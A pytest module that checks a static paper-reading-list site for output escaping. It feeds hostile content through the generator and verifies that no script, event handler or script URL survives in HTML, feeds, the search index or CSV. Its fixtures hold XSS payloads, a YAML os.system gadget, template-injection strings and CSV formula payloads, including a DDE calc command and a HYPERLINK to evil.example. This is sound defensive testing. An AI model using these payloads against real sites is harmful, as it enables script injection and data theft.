"""Output hardening: hostile text in content never becomes markup, script or a script URL.

A site is built (really, with `mkdocs build --strict`) from hand-made papers and a
hand-made vocabulary whose every free-text field is hostile: titles, abstracts,
notes, authors, arXiv ids, tag/list/category labels and descriptions. Validation
would reject some of these values; the renderer must be safe without it.

Every file we generate or render (not the static JS/CSS under site/assets/) is
then checked by what its readers do with it:

- HTML, parsed as a browser tokenizes it: exactly the `<script>` elements of a
  page of the normal site (the fixture project's, tests/fixture: Material's own, ours) and no other `<script`;
  no `on*=` attribute; no `javascript:`/`vbscript:`/`data:` URL; only element
  names the normal site uses; JSON data blocks that cannot end early;
- the search index: Material renders a result's title, text and tags with
  innerHTML, so they hold only the markup the normal index holds, and hostile
  text only escaped (`&lt;script`);
- feeds (RSS, Atom) and the sitemap: well-formed, only the elements of the
  normal site's file, and the fields readers render as HTML (RSS description,
  Atom type="html") free of script, handlers and script URLs;
- plain-text and data files (BibTeX, CSV, robots.txt, JSON exports): they keep
  `<` as written, which is right for their formats; they must parse and must not
  start like HTML (MIME sniffing only looks at the start); CSV cells must not
  start a spreadsheet formula;
- the hostile text is shown as text: `<title>`, `<h1>`, meta tags, JSON-LD and
  the search index give it back exactly, once unescaped.

A browser test then opens every page (and the search box, and My reading with a
hostile localStorage) with `alert` trapped, after KaTeX and our scripts have run.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import functools
import gzip
import http.server
import io
import json
import re
import threading
import xml.etree.ElementTree as ET
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urljoin

import pytest

from generator.generate import site_info, write_docs
from generator.model import Category, ListEntry, Paper, PaperList, Tag
from generator.pages import build_context, paper_page
from generator.site import render_site
from generator.vocab import Vocabulary
from tests.conftest import copy_project, mkdocs_build, plugin_options

SITE_NAME = "Paper Reading List"
WEEK = dt.date(2023, 5, 1)
# Files we generate or MkDocs renders from our content; site/assets/ is static vendored code.
RENDERED = (".html", ".xml", ".atom", ".rss", ".json", ".bib", ".txt", ".csv", ".xml.gz")
TEXT_FORMATS = (".bib", ".txt", ".csv")  # plain text: never sniffable as HTML
XML_FORMATS = (".xml", ".atom", ".rss", ".xml.gz")
# Elements a feed reader may render from an HTML-typed feed field (RSS description, Atom type="html").
FEED_HTML = {"p", "br", "a", "em", "strong", "i", "code", "pre", "ul", "ol", "li", "blockquote", "sub", "sup"}
RSS_HTML_FIELDS = {"description", "{http://purl.org/rss/1.0/modules/content/}encoded"}
ATOM = "{http://www.w3.org/2005/Atom}"
URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "poster", "data", "cite", "background", "srcset"}
BAD_SCHEME = re.compile(r"^(?:javascript|vbscript|data):", re.I)

TITLES = [
    "</title><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "{{ config }} {% raw %}{{ 7*7 }}{% endraw %} {# x #}",
    "</div></article><script>alert(2)</script>",
    "$<script>alert(3)</script>$ and [x](javascript:alert(1))",
    "key: value --- !!python/object/apply:os.system ['id'] &amp; &lt;b&gt;",
    '=HYPERLINK("https://evil.example/?"&A1,"Click") <style>',
]
ABSTRACT = """<script>alert(1)</script> javascript:alert(1) [x](javascript:alert(1)) <a href="javascript:alert(1)">a</a>
<iframe srcdoc="<script>alert(1)</script>"></iframe> <style>*{display:none}</style> <!-- c --> <![CDATA[ x ]]>

 \t
</div></article><script>alert(1)</script> {{ config }} {% raw %} {%- endraw %} math $<script>alert(1)</script>$
and $\\href{javascript:alert(1)}{click}$ and $\\htmlId{x}{y}$ and $\\url{javascript:alert(1)}$
---
title: pwned
tags: [<script>]
---
&lt;script&gt;alert(1)&lt;/script&gt; ![i](javascript:alert(1)) <javascript:alert(1)> <b onmouseover=alert(1)>b</b>"""
NOTES = "note <script>alert(1)</script>\n \nsecond [x](javascript:alert(1))\n\n</p><img src=x onerror=alert(1)>"
AUTHORS = (
    "<b onmouseover=alert(1)>Mallory</b>",
    'Eve "><script>alert(1)</script>',
    "O'Brien </span><svg onload=alert(1)>",
)
FORMULA_AUTHORS = ("@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0")
TAG_LABEL = "<img src=x onerror=alert('tag')>"
TAG2_LABEL = '<script>alert("tag2")</script>'


def hostile_vocab() -> Vocabulary:
    """Ids become paths and are checked as names; every label and description is hostile."""
    lists = [
        PaperList("xss-list", '<script>alert("list")</script>', '"><svg onload=alert(1)>', "ranked", "md", "x.txt",
                  "javascript:alert(1)", WEEK),
        PaperList("xss-weekly", "<img src=x onerror=alert(1)>", "</p><script>alert(1)</script>", "weekly", "md",
                  "y.txt", "<script>", WEEK),
    ]  # fmt: skip
    tags = [
        Tag("xss-tag", TAG_LABEL, '"><img src=x onerror=alert(1)> <script>alert(1)</script>'),
        Tag("xss-tag2", TAG2_LABEL, "{{ config }} [x](javascript:alert(1))"),
    ]
    return Vocabulary(lists, tags, [Category("cs.XS", '<script>alert("cat")</script>')])


def hostile_papers() -> list[Paper]:
    papers = []
    for i, title in enumerate(TITLES):
        papers.append(
            Paper(
                slug=f"hostile-{i}",
                title=title,
                abstract=ABSTRACT,
                arxiv=f"2301.0000{i}" if i else '2301.00001"><script>alert(1)</script>',
                category="cs.XS",
                week=WEEK,
                added=WEEK,
                tags=("xss-tag", "xss-tag2", "llm"),
                authors=FORMULA_AUTHORS if i == len(TITLES) - 1 else AUTHORS,
                year=2023,
                links=(("code", "https://example.org/?q='onmouseover='alert(1)\"x"),),
                notes=NOTES,
                lists=(ListEntry("xss-list", i + 1, 10), ListEntry("xss-weekly", i + 1, None, WEEK)),
            )
        )
    return papers


# ---------------------------------------------------------------- parsing what a browser would see


class _Tags(HTMLParser):
    """Start tags as a browser's tokenizer sees them (script/style bodies are raw text)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]], str]] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []  # (attrs, body)
        self.title = ""
        self.h1: list[str] = []
        self._in: str | None = None
        self._script: dict[str, str | None] | None = None
        self._buf: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs, self.get_starttag_text() or ""))
        if tag == "script":
            self._script, self._buf = dict(attrs), []
        elif tag in ("title", "h1") and self._in is None:
            self._in, self._buf = tag, []

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs, self.get_starttag_text() or ""))

    def handle_data(self, data: str) -> None:
        if self._script is not None or self._in is not None:
            self._buf.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._script is not None:
            self.scripts.append((self._script, "".join(self._buf)))
            self._script = None
        elif tag == self._in:
            text = "".join(self._buf)
            if tag == "title":
                self.title = text
            else:
                self.h1.append(text)
            self._in = None


def parse(text: str) -> _Tags:
    p = _Tags()
    p.feed(text)
    p.close()
    return p


def rendered_files(site: Path) -> list[Path]:
    return sorted(
        f
        for f in site.rglob("*")
        if f.is_file() and f.relative_to(site).parts[0] != "assets" and f.name.endswith(RENDERED)
    )


def read(f: Path) -> str:
    data = f.read_bytes()
    return (gzip.decompress(data) if f.name.endswith(".gz") else data).decode("utf-8")


def page_url(site: Path, f: Path) -> str:
    """Where a file is served, under the site_url path the site is built for."""
    return "https://site.invalid/reading-list/" + f.relative_to(site).as_posix()


def script_signature(site: Path, f: Path, parsed: _Tags) -> tuple[str, ...]:
    """A page's scripts with page-relative paths resolved: equal on every page of one kind."""
    sig = []
    for attrs, body in parsed.scripts:
        src = attrs.get("src")
        if src is not None:
            src = urljoin(page_url(site, f), src).removeprefix("https://site.invalid")
        kind = attrs.get("type") or ""
        if kind in ("application/json", "application/ld+json"):
            body = "<data>"  # data blocks: checked by `data_block_problems`, their text differs per page
        else:
            body = re.sub(r'new URL\("[^"]*",location\)', "new URL(<base>,location)", body)
        rest = sorted((k, v) for k, v in attrs.items() if k != "src")
        sig.append(repr((src, rest, body)))
    return tuple(sig)


def data_block_problems(parsed: _Tags) -> list[str]:
    """JSON data blocks cannot end early (`</script`) and must parse."""
    out = []
    for attrs, body in parsed.scripts:
        if attrs.get("type") in ("application/json", "application/ld+json"):
            if "<" in body:
                out.append(f"raw '<' in a {attrs.get('type')} block: {body[:120]!r}")
            try:
                json.loads(body)
            except ValueError as exc:
                out.append(f"{attrs.get('type')} block is not JSON ({exc}): {body[:120]!r}")
    return out


def tag_problems(parsed: _Tags) -> list[str]:
    """Event handlers and script URLs in any start tag."""
    out = []
    for tag, attrs, raw in parsed.tags:
        for name, value in attrs:
            if name.startswith("on"):
                out.append(f"event handler attribute {name!r}: {raw[:160]}")
            squashed = re.sub(r"[\x00-\x20]+", "", value or "")  # browsers drop these inside a scheme
            if name in URL_ATTRS and BAD_SCHEME.match(squashed):
                out.append(f"script URL in {name!r}: {raw[:160]}")
            if (
                tag == "meta"
                and name == "content"
                and re.search(r"url\s*=\s*['\"]?\s*(?:javascript|data|vbscript):", squashed, re.I)
            ):
                out.append(f"script URL in meta refresh: {raw[:160]}")
    return out


@dataclass(frozen=True)
class SeedProfile:
    """What the normal site (the fixture project's) has: the script signatures of its pages, element names in its pages
    and in each of its XML files (by file name)."""

    signatures: frozenset[tuple[str, ...]]
    names: frozenset[str]
    xml_names: dict[str, frozenset[str]]


@functools.cache
def seed_profile(site: Path) -> SeedProfile:
    signatures, names, xml_names = set(), set(), {}
    for f in rendered_files(site):
        if f.suffix == ".html":
            parsed = parse(read(f))
            signatures.add(script_signature(site, f, parsed))
            names |= {t for t, _, _ in parsed.tags}
        elif f.name.endswith(XML_FORMATS):
            found = {el.tag for el in ET.fromstring(read(f)).iter()}
            xml_names[f.name] = xml_names.get(f.name, frozenset()) | found
    return SeedProfile(frozenset(signatures), frozenset(names), xml_names)


def html_problems(site: Path, f: Path, text: str, seed: SeedProfile) -> list[str]:
    parsed = parse(text)
    problems = tag_problems(parsed) + data_block_problems(parsed)
    raw_scripts = len(re.findall(r"<script", text, re.I))
    if raw_scripts != len(parsed.scripts):
        problems.append(f"{raw_scripts} '<script' in the text but {len(parsed.scripts)} script elements")
    sig = script_signature(site, f, parsed)
    if sig not in seed.signatures:
        problems.append("scripts differ from those of every normal page:\n    " + "\n    ".join(sig))
    extra = {t for t, _, _ in parsed.tags} - seed.names
    if extra:
        problems.append(f"elements the normal site never has: {sorted(extra)}")
    return problems


def feed_html_problems(where: str, html_text: str) -> list[str]:
    """A feed field that readers render as HTML (after the XML layer is decoded)."""
    parsed = parse(html_text)
    problems = tag_problems(parsed)
    extra = {t for t, _, _ in parsed.tags} - FEED_HTML
    if extra:
        problems.append(f"markup {sorted(extra)} in {html_text[:120]!r}")
    return [f"{where}: {p}" for p in problems]


def xml_problems(f: Path, text: str, seed: SeedProfile) -> list[str]:
    """Well-formed, only the elements of the same file on the normal site, no script in an HTML-typed field."""
    parsed = parse(text)  # attributes (Atom link href, ...) as a browser rendering the XML would see them
    problems = tag_problems(parsed)
    if re.search(r"<script", text, re.I):
        problems.append("'<script' in the file")
    try:
        root = ET.fromstring(text)
    except ET.ParseError as exc:
        return [*problems, f"not well-formed XML: {exc}"]
    allowed = seed.xml_names.get(f.name) or frozenset().union(*seed.xml_names.values())
    extra = {el.tag for el in root.iter()} - allowed
    if extra:
        problems.append(f"elements the normal site's {f.name} never has: {sorted(extra)}")
    for el in root.iter():
        name = el.tag.rsplit("}", 1)[-1]
        if el.tag in RSS_HTML_FIELDS and root.tag == "rss":
            problems += feed_html_problems(f"RSS <{name}>", el.text or "")
        elif el.tag.startswith(ATOM) and el.get("type") == "html":
            problems += feed_html_problems(f"Atom <{name} type=html>", el.text or "")
        elif el.tag.startswith(ATOM) and el.get("type") == "xhtml":
            inner = "".join(ET.tostring(child, encoding="unicode") for child in el)
            problems += feed_html_problems(f"Atom <{name} type=xhtml>", inner)
    return problems


def text_file_problems(f: Path, text: str) -> list[str]:
    """Plain text keeps `<` as written (BibTeX, CSV, robots.txt): safe while no browser takes it for HTML,
    and MIME sniffing only looks at how a file starts."""
    if text.lstrip().startswith("<"):
        return ["a plain-text file that starts with '<' can be sniffed as HTML"]
    return []


def json_problems(f: Path, text: str) -> list[str]:
    """Data, not markup (the search index is checked field by field elsewhere): it must parse and
    must not start like HTML."""
    try:
        json.loads(text)
    except ValueError as exc:
        return [f"not JSON: {exc}"]
    return [] if text.lstrip()[:1] in ("{", "[") else ["JSON that does not start with { or ["]


# ---------------------------------------------------------------- the hostile site

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = copy_project(tmp_path_factory.mktemp("hostile"), papers=False)
    ctx = build_context(site_info(project / "mkdocs.yml"), hostile_vocab(), hostile_papers())
    write_docs(render_site(ctx), project / "docs")
    plugin_options(project, generate=False)  # render the hostile pages written above, as they are
    result = mkdocs_build(project)
    assert result.returncode == 0, result.stderr[-4000:]
    return project / "site"


def test_hostile_site_has_every_page_kind(hostile_site: Path) -> None:
    files = {f.relative_to(hostile_site).as_posix() for f in rendered_files(hostile_site)}
    for i in range(len(TITLES)):
        assert f"papers/hostile-{i}/index.html" in files
        assert f"papers/hostile-{i}.bib" in files
    expected = {"index.html", "papers/index.html", "tags/xss-tag/index.html", "lists/xss-list/index.html"}
    expected |= {"categories/cs.XS/index.html", "weeks/2023-05-01/index.html", "stats/index.html"}
    expected |= {"reading/index.html", "search/rl/index.json", "sitemap.xml", "404.html"}
    assert expected <= files


def report(problems: list[tuple[str, str]]) -> str:
    """(where, problem) pairs, each distinct problem once with the places it occurs."""
    grouped: dict[str, list[str]] = {}
    for where, problem in problems:
        grouped.setdefault(problem, []).append(where)
    lines = [f"{len(problems)} problem(s), {len(grouped)} distinct:"]
    for problem, places in grouped.items():
        shown = ", ".join(dict.fromkeys(places[:6])) + (f" (+{len(places) - 6})" if len(places) > 6 else "")
        lines.append(f"- {problem}\n    in {shown}")
    return "\n".join(lines)


def test_no_script_handler_or_script_url_in_any_rendered_file(hostile_site: Path, built_site: Path) -> None:
    seed = seed_profile(built_site)
    problems: list[tuple[str, str]] = []
    checked = Counter[str]()
    for f in rendered_files(hostile_site):
        rel, text = f.relative_to(hostile_site).as_posix(), read(f)
        kind = next(k for k in RENDERED if f.name.endswith(k))
        checked[kind] += 1
        if kind == ".html":
            found = html_problems(hostile_site, f, text, seed)
        elif kind in XML_FORMATS:
            found = xml_problems(f, text, seed)
        elif kind == ".json":
            found = json_problems(f, text)
        else:
            found = text_file_problems(f, text)
        problems += [(rel, p) for p in found]
    assert checked[".html"] > 20 and checked[".bib"] >= len(TITLES) and checked[".json"] >= 1, checked
    assert not problems, report(problems)


def test_csv_cells_cannot_start_a_formula(hostile_site: Path) -> None:
    """Spreadsheets run a cell that starts with = + - @ (or tab/CR then one): CSV injection."""
    problems = []
    for f in sorted(hostile_site.rglob("*.csv")):
        rows = csv.reader(io.StringIO(read(f), newline=""))
        for n, row in enumerate(rows, 1):
            bad = [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
            problems += [(f"{f.relative_to(hostile_site)} row {n}", f"cell starts a formula: {c[:60]!r}") for c in bad]
    assert not problems, report(problems)


def test_search_index_holds_hostile_text_as_data(hostile_site: Path) -> None:
    """The built-in index (search/rl/) stores titles and tag labels as the text they are, and the dialog
    that shows them never parses a string as HTML."""
    manifest = json.loads(read(hostile_site / "search" / "rl" / "index.json"))
    titles = {doc[0]: doc[1] for doc in manifest["docs"]}
    for i, title in enumerate(TITLES):
        assert titles[f"papers/hostile-{i}/"] == title  # as written: escaping is the page's job, not the data's
    assert TAG_LABEL in manifest["tags"], "the tag label is searchable (as text)"
    assert not (hostile_site / "search" / "search_index.json").exists()  # Material's index: not built
    scripts = sorted((hostile_site / "assets" / "javascripts").glob("rl-search*.js"))
    assert scripts, "the search dialog's scripts are in the site"
    for script in scripts:
        code = read(script)
        found = re.findall(
            r"\b(innerHTML|outerHTML|insertAdjacentHTML|document\.write|createContextualFragment)\b", code
        )
        assert not found, f"{script.name} parses strings as HTML: {sorted(set(found))}"


def test_titles_and_meta_show_hostile_text_as_text(hostile_site: Path) -> None:
    for i, (title, paper) in enumerate(zip(TITLES, hostile_papers(), strict=True)):
        text = read(hostile_site / "papers" / f"hostile-{i}" / "index.html")
        parsed = parse(text)
        assert parsed.title.strip() == f"{title} - {SITE_NAME}", parsed.title  # parsed: entities decoded once
        assert title in [h.strip() for h in parsed.h1], parsed.h1
        metas = {(dict(a).get("name") or dict(a).get("property")): dict(a).get("content") for t, a, _ in parsed.tags
                 if t == "meta"}  # fmt: skip
        for key in ("og:title", "twitter:title", "citation_title"):
            assert metas[key] == title, (key, metas[key])
        authors = [
            dict(a)["content"] for t, a, _ in parsed.tags if t == "meta" and dict(a).get("name") == "citation_author"
        ]
        assert authors == list(paper.authors)
        (ld,) = [body for attrs, body in parsed.scripts if attrs.get("type") == "application/ld+json"]
        data = json.loads(ld)
        assert data["headline"] == title and data["author"] == list(paper.authors)


def test_abstract_notes_and_labels_keep_markup_visible_as_text(hostile_site: Path) -> None:
    text = read(hostile_site / "papers" / "hostile-0" / "index.html")
    abstract = text.split('<div class="rl-abstract"', 1)[1].split("</div>", 1)[0]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in abstract
    assert "&lt;a href=&quot;javascript:alert(1)&quot;&gt;a&lt;/a&gt;" in abstract
    assert "[x](javascript:alert(1))" in abstract and "{{ config }} {% raw %}" in abstract
    assert "&amp;lt;script&amp;gt;" in abstract  # text that looks escaped is shown as typed
    assert "&lt;iframe srcdoc=" in abstract and "&lt;style&gt;" in abstract and "&lt;!-- c --&gt;" in abstract
    assert "title: pwned" in abstract
    # math: arithmatex spans whose TeX is escaped text; KaTeX (no `trust`) renders it as math or an error
    assert '<span class="arithmatex">\\(&lt;script&gt;alert(1)&lt;/script&gt;\\)</span>' in abstract
    notes = text.split('<div class="rl-notes">', 1)[1].split("</div>", 1)[0]
    assert "note &lt;script&gt;alert(1)&lt;/script&gt;" in notes and "&lt;img src=x onerror=alert(1)&gt;" in notes
    byline = text.split('<p class="rl-byline">', 1)[1].split("</p>", 1)[0]
    assert "&lt;b onmouseover=alert(1)&gt;Mallory&lt;/b&gt;" in byline
    assert "&lt;img src=x onerror=alert(&#39;tag&#39;)&gt;" in text  # the tag chip
    overview = read(hostile_site / "categories" / "index.html")
    assert "&lt;script&gt;alert(&#34;cat&#34;)&lt;/script&gt;" in overview
    bib = read(hostile_site / "papers" / "hostile-0.bib")
    assert "</title><script>alert(1)</script>" in bib  # BibTeX is plain text: kept as written, not HTML-escaped
    assert "&lt;" not in bib


def test_jinja_looking_text_is_not_evaluated(hostile_site: Path) -> None:
    text = read(hostile_site / "papers" / "hostile-3" / "index.html")
    assert TITLES[3] in unescape(text)
    assert "49" not in parse(text).title and "site_url" not in unescape(text).split("<article", 1)[1]


def test_extra_links_render_only_http_urls() -> None:
    """Validation allows http(s) links only; the renderer must not turn other schemes into links either."""
    schemes = ("javascript:alert(1)", " JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<b>x</b>",
               "vbscript:msgbox(1)")  # fmt: skip
    p = Paper(slug="links", title="Links", links=tuple((f"l{i}", url) for i, url in enumerate(schemes)))
    ctx = build_context(site_info(Path(__file__).resolve().parents[1] / "mkdocs.yml"), hostile_vocab(), [p])
    problems = tag_problems(parse(paper_page(ctx, p, {p.slug: p})))
    assert not problems, "\n".join(problems)


# ---------------------------------------------------------------- in a browser


@contextlib.contextmanager
def serve(directory: Path) -> Iterator[str]:
    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(directory)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()


TRAP = """window.__alerts = [];
for (const f of ['alert', 'confirm', 'prompt']) window[f] = (m) => { window.__alerts.push(f + ':' + m); };"""
DOM_PROBLEMS = """() => {
  const out = [];
  for (const el of document.querySelectorAll('*')) {
    for (const a of el.attributes) {
      const v = a.value.replace(/[\\x00-\\x20]+/g, '');
      if (a.name.startsWith('on')) out.push(el.tagName + ' ' + a.name + '=' + a.value.slice(0, 80));
      const url = ['href', 'src', 'action', 'formaction', 'xlink:href'].includes(a.name);
      if (url && /^(javascript|vbscript|data):/i.test(v))
        out.push(el.tagName + ' ' + a.name + '=' + a.value.slice(0, 80));
    }
  }
  for (const s of document.scripts)
    if (/alert/.test(s.textContent) && s.type !== 'application/ld+json')
      out.push('script ' + s.textContent.slice(0, 80));
  return out.concat(window.__alerts || []);
}"""


@pytest.mark.browser
def test_hostile_pages_run_no_script_in_a_browser(hostile_site: Path, browser: Any) -> None:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.add_init_script(TRAP)
    problems: list[tuple[str, str]] = []
    try:
        pg = context.new_page()
        pg.set_default_timeout(15_000)
        pg.on("dialog", lambda d: (problems.append((pg.url, f"dialog: {d.message}")), d.dismiss()))
        pages = sorted(f.relative_to(hostile_site).parent.as_posix() for f in hostile_site.rglob("index.html"))
        with serve(hostile_site) as base:
            for rel in pages:
                pg.goto(base + ("" if rel == "." else rel + "/"), wait_until="load")
                if pg.locator(".arithmatex").count():  # wait for KaTeX to have rendered the math
                    pg.wait_for_selector(".arithmatex[data-rl-math] .katex", state="attached")
                problems += [(rel, p) for p in pg.evaluate(DOM_PROBLEMS)]
            # Material's search renders a result's title, text and tags with innerHTML
            pg.goto(base, wait_until="load")
            pg.click(".md-search__input")
            pg.keyboard.type("Mallory")
            pg.wait_for_selector(".md-search-result__item")
            pg.wait_for_timeout(500)
            problems += [("search", p) for p in pg.evaluate(DOM_PROBLEMS)]
            shown = pg.locator(".md-search-result").inner_text()
            for text in (TITLES[0], TAG_LABEL):
                if text not in shown:
                    problems.append(("search", f"{text!r} is not shown as text in the results"))
            # My reading, from a hostile stored state (as an imported file could leave it)
            entry = {
                "state": "toread",
                "title": TITLES[1],
                "url": "papers/hostile-1/",
                "updated": "2024-01-01T00:00:00Z",
            }
            bad = {**entry, "title": TAG_LABEL, "url": "javascript:alert(1)"}
            state = {"version": 1, "papers": {"hostile-1": entry, "hostile-2": bad}}
            pg.evaluate("s => localStorage.setItem('reading-list:v1', s)", json.dumps(state))
            pg.goto(base + "reading/", wait_until="load")
            pg.wait_for_selector("#rl-my-reading a")
            problems += [("reading", p) for p in pg.evaluate(DOM_PROBLEMS)]
            if TITLES[1] not in pg.locator("#rl-my-reading").inner_text():
                problems.append(("reading", f"{TITLES[1]!r} is not shown as text"))
    finally:
        context.close()
    assert not problems, report(problems)
